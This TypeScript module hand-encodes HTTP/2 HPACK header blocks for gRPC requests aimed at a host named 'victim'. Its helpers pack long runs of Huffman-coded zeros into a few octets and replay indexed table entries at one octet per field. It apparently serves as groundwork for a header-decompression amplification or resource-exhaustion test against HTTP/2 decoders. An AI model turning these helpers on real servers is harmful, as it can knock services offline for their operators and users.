// Header blocks by hand (RFC 7541 §6), without Huffman coding.

/** Fields of a request, in order; names may be anything. */
export type Fields = readonly (readonly [name: string, value: string])[];

/** The index of the entry that was inserted last. */
const NEWEST_INDEX = 62;

/** `value` with a prefix of `bits` in an octet that begins with `pattern` (RFC 7541 §5.1). */
export function integer(value: number, bits: number, pattern: number): Buffer {
  const limit = 2 ** bits - 1;
  if (value < limit) return Buffer.from([pattern | value]);
  const octets = [pattern | limit];
  let rest = value - limit;
  for (; rest >= 128; rest = Math.floor(rest / 128)) octets.push((rest % 128) | 0x80);
  octets.push(rest);
  return Buffer.from(octets);
}

function text(value: string): Buffer {
  const octets = Buffer.from(value, "latin1");
  return Buffer.concat([integer(octets.length, 7, 0), octets]);
}

/** A field that stays out of the table. */
export function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x00]), text(name), text(value)]);
}

/** A field that stays out of the table, its value `count` times "0": five bits each by Huffman, all of them 0. */
export function huffmanZeros(name: string, count: number): Buffer {
  const octets = Math.floor((count * 5) / 40) * 5;
  return Buffer.concat([
    Buffer.from([0x00]),
    text(name),
    integer(octets, 7, 0x80),
    Buffer.alloc(octets),
  ]);
}

/** A field that goes into the peer's table. */
export function inserted(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
}

/** The entry that was inserted `age` insertions ago, 0 for the last: one octet. */
export function indexed(age: number): Buffer {
  return integer(NEWEST_INDEX + age, 7, 0x80);
}

/** Tells the peer's decoder how large its table is to be (RFC 7541 §6.3). */
export function tableSize(bytes: number): Buffer {
  return integer(bytes, 5, 0x20);
}

export function block(fields: Fields): Buffer {
  return Buffer.concat(fields.map(([name, value]) => literal(name, value)));
}

/** The fields that a gRPC request for `path` has. */
export function requestFields(path: string): Fields {
  return [
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "victim"],
    ["te", "trailers"],
    ["content-type", "application/grpc"],
  ];
}

/** A block that puts the request's fields into the table, and the one of an octet a field that repeats it. */
export function repeatedRequest(path: string): { readonly first: Buffer; readonly next: Buffer } {
  const fields = requestFields(path);
  return {
    first: Buffer.concat(fields.map(([name, value]) => inserted(name, value))),
    next: Buffer.concat(fields.map((_, at) => indexed(fields.length - 1 - at))),
  };
}
